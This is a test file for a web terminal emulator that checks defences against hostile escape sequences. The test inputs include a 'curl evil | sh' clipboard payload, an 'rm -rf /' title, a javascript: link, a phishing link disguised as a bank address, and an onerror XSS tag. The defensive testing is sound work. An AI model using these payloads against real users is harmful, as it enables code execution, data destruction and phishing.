import '../../app/global.css'
import { expect, test, vi } from 'vitest'
import { givenTerminal } from './test-terminal.ts'

const ESC = '\u001b'
const BEL = '\u0007'

async function print(machine: { print: (text: string) => void }, place: HTMLElement, text: string) {
  machine.print(`${text}\r\nshown to the end\r\n`)
  await expect.poll(() => place.textContent).toContain('shown to the end')
}

test('a terminal that prints a title does not change that of the window, nor read it back', async () => {
  document.title = 'PC-12 | Remote Background'
  const { machine, place, titles } = await givenTerminal()
  await print(machine, place, `${ESC}]0;rm -rf /${BEL}${ESC}]2;evil${ESC}\\${ESC}[21t${ESC}[20t`)
  expect(document.title).toBe('PC-12 | Remote Background')
  expect(machine.received).toBe('')
  // Its tab is called so, at most five times a second.
  await expect.poll(() => titles).toEqual(['evil'])
})

test('a terminal that prints OSC 52 neither writes the clipboard nor reads it', async () => {
  const write = vi.spyOn(navigator.clipboard, 'writeText')
  const read = vi.spyOn(navigator.clipboard, 'readText')
  const { machine, place } = await givenTerminal()
  await print(machine, place, `${ESC}]52;c;${btoa('curl evil | sh')}${BEL}${ESC}]52;c;?${BEL}`)
  expect(write).not.toHaveBeenCalled()
  expect(read).not.toHaveBeenCalled()
  expect(machine.received).toBe('')
})

test('a link that a terminal prints is followed only after its real address was read and agreed to', async () => {
  const ask = vi.spyOn(window, 'confirm').mockReturnValue(false)
  const open = vi.spyOn(window, 'open').mockReturnValue(null)
  const { machine, place } = await givenTerminal()
  const link = (uri: string, text: string) => `${ESC}]8;;${uri}${ESC}\\${text}${ESC}]8;;${ESC}\\`
  await print(
    machine,
    place,
    `${link('javascript:alert(1)', 'https://bank.example')}\r\n${link('https://evil.example/x', 'https://bank.example')}`,
  )
  const click = async (line: number) => {
    const row = place.querySelectorAll('.xterm-rows > div')[line]
    const screen = place.querySelector('.xterm-screen')
    if (row === undefined || screen === null) throw new Error('the line is there')
    const { left, top } = row.getBoundingClientRect()
    const at = { clientX: left + 20, clientY: top + 5, bubbles: true, button: 0 }
    for (const type of ['mousemove', 'mousedown', 'mouseup', 'click'])
      screen.dispatchEvent(new MouseEvent(type, at))
  }
  await click(0)
  // The link opens its visible text, never a hidden target.
  expect(ask).not.toHaveBeenCalledWith(expect.stringContaining('javascript'))
  ask.mockClear()
  await click(1)
  expect(ask).toHaveBeenCalledExactlyOnceWith(expect.stringContaining('https://evil.example/x'))
  expect(open).not.toHaveBeenCalled()
})

test('markup is text, and an unterminated sequence does not swallow later output', async () => {
  const { machine, place } = await givenTerminal()
  machine.print(`<img src=x onerror=alert(1)>\r\n${ESC}]0;${'x'.repeat(2_000_000)}`)
  await print(machine, place, `${ESC}\\${ESC}[99999999999;99999999999H${ESC}[2147483647b${ESC}[H`)
  expect(place.querySelector('img')).toBeNull()
  await print(machine, place, '<img src=x onerror=alert(1)>')
  expect(place.textContent).toContain('<img')
})
